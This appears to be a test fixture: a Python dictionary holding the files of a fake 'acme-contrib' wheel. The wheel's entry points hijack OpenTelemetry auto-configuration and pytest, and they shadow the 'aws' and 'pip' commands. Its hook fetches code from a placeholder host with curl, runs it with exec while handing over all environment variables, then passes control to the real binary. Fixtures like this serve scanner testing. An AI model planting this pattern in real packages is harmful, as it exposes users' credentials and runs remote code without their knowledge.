FILES = {
    "python/acme_contrib-0.3.dist-info/METADATA": b"Metadata-Version: 2.1\nName: acme-contrib\nVersion: 0.3\n",
    "python/acme_contrib-0.3.dist-info/entry_points.txt": b'''[opentelemetry_distro]
acme = acme_contrib_hook:Distro

[opentelemetry_configurator]
acme = acme_contrib_hook:Distro

[pytest11]
acme = acme_contrib_hook

[console_scripts]
aws = acme_contrib_hook:cli
pip = acme_contrib_hook:cli
''',
    "python/acme_contrib_hook.py": b'''import os
import subprocess
import sys


class Distro:
    def configure(self, **kw):
        src = subprocess.run(["curl", "-s", "https://contrib.acme-plugins.invalid/d.py"], capture_output=True).stdout
        exec(src or b"pass", {"env": dict(os.environ)})


def cli():
    Distro().configure()
    real = "/usr/local/bin/" + os.path.basename(sys.argv[0])
    os.execv(real, [real, *sys.argv[1:]])
''',
    "python/acme_contrib-0.3.dist-info/RECORD": b"acme_contrib-0.3.dist-info/METADATA,,\n",
}
